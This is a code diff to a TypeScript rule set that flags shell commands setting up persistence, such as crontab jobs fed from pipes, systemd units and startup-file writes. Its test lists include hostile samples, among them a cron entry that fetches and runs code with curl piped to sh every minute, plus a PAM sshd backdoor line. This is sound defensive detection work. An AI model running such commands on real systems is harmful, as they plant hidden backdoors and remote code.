@@ -1,7 +1,7 @@
-import type { Program } from '../shell.ts';
+import type { Program, ShellReading } from '../shell.ts';
 import { isShell } from './execution.ts';
 import { copied, isAmong, normalised, written, writtenInline, type Files } from './paths.ts';
-import { hasOption, operands, type Rule } from './rule.ts';
+import { hasOption, operands, sourcesOf, type Rule } from './rule.ts';
 import { sharedFolder } from './shared-folder.ts';
 
 /** Files whose content runs by itself later. */
@@ -52,6 +52,21 @@ function addsToProfile(program: Program): boolean {
   return text !== null && !everyday.test(text);
 }
 
+/** Whether `crontab` takes the jobs from its input and not from a file that somebody can look at. */
+const jobsFed = (program: Program): boolean =>
+  program.name === 'crontab' &&
+  (program.pipedFrom !== null || program.input !== null || program.redirects.some(({ operator }) => operator === '<')) &&
+  !hasOption(program, 'leri');
+
+/** What the line tells of the jobs: the text that is fed, and the words of whatever prints it. */
+const jobText = (program: Program, reading: ShellReading): string =>
+  [
+    program.input ?? '',
+    ...sourcesOf(program, reading).map(({ name, args }) => (name === 'echo' || name === 'printf' ? args.join(' ') : '')),
+  ].join('\n');
+const tellsJobs = (program: Program, reading: ShellReading): boolean =>
+  /(^|\n|\s)(@\w+|[\d*][\d*/,-]*(\s+[\w*/,-]+){4})\s+\S/.test(jobText(program, reading));
+
 export const startupChanges: readonly Rule[] = [
   {
     code: 'STARTUP_CHANGE',
@@ -90,7 +105,7 @@ export const startupChanges: readonly Rule[] = [
     code: 'STARTUP_WRITTEN',
     tactic: 'PERSISTENCE',
     points: 50,
-    find(program) {
+    find(program, reading) {
       const paths = writtenInline(program);
       const path = paths.find((candidate) => isAmong(candidate, startup) && !settings.test(candidate));
       if (path !== undefined) return `writes what is to run by itself: ${path.slice(0, 80)}`;
@@ -103,6 +118,7 @@ export const startupChanges: readonly Rule[] = [
           (sharedFolder.test(candidate) && unitFile.test(candidate)),
       );
       if (place !== undefined && text !== null && comesBack.test(text)) return `writes what is to run by itself: ${place.slice(0, 80)}`;
+      if (jobsFed(program) && comesBack.test(jobText(program, reading))) return 'schedules what brings somebody back';
       const links =
         program.name === 'systemctl' &&
         program.args.some((word) => /^(link|enable|start|edit)$/.test(word)) &&
@@ -117,6 +133,7 @@ export const startupChanges: readonly Rule[] = [
       'sed -i "1i auth sufficient x.so" /etc/pam.d/sshd',
       'echo "ExecStart=/tmp/x" >> /etc/systemd/system/x.service',
       'systemctl enable /dev/shm/x.service',
+      'echo "* * * * * curl h/x | sh" | crontab -',
     ],
     harmless: [
       'echo "export A=b" | sudo tee /etc/profile.d/a.sh',
@@ -130,17 +147,12 @@ export const startupChanges: readonly Rule[] = [
     code: 'CRONTAB_FROM_PIPE',
     tactic: 'PERSISTENCE',
     points: 30,
-    find(program) {
-      const fromInput =
-        program.name === 'crontab' &&
-        (program.pipedFrom !== null || program.input !== null || program.redirects.some(({ operator }) => operator === '<'));
-      return fromInput && !hasOption(program, 'leri') ? 'sets scheduled jobs from the command line' : null;
-    },
+    find: (program, reading) => (jobsFed(program) && tellsJobs(program, reading) ? 'sets scheduled jobs from the command line' : null),
     suspicious: [
-      'echo "* * * * * /tmp/x" | crontab -',
-      '(crontab -l; echo "@reboot /tmp/x") | crontab -',
+      'echo "* * * * * /opt/x" | crontab -',
+      '(crontab -l; echo "@reboot /opt/x") | crontab -',
       'crontab - <<< "* * * * * x"',
-      'echo x | sudo crontab -u root -',
+      'echo "5 4 * * * x" | sudo crontab -u root -',
     ],
     harmless: ['crontab -l', 'crontab -e', 'crontab jobs.txt', 'crontab -l | grep x', 'echo y | crontab -r -i'],
   },
@@ -151,11 +163,17 @@ export const startupChanges: readonly Rule[] = [
     find(program) {
       const timer = program.via.includes('systemd-run') && program.name !== '' && isShell(program);
       const fed = /^(at|batch)$/.test(program.name) && (program.pipedFrom !== null || program.input !== null);
+      if (jobsFed(program)) return 'sets scheduled jobs that the line does not tell';
       const crontab =
         program.name === 'crontab' && operands(program).some((word) => sharedFolder.test(normalised(word, program.directory)));
       return timer || fed || crontab ? 'has a command run later' : null;
     },
-    suspicious: ['systemd-run --on-calendar "*:0/1" /bin/sh -c "date >> x"', 'echo "make all" | at 17:00', 'crontab /tmp/jobs'],
+    suspicious: [
+      'systemd-run --on-calendar "*:0/1" /bin/sh -c "date >> x"',
+      'echo "make all" | at 17:00',
+      'crontab /tmp/jobs',
+      'crontab < jobs',
+    ],
     harmless: ['systemd-run --user ./server', 'at -l', 'crontab jobs.txt', 'atq'],
   },
 ];
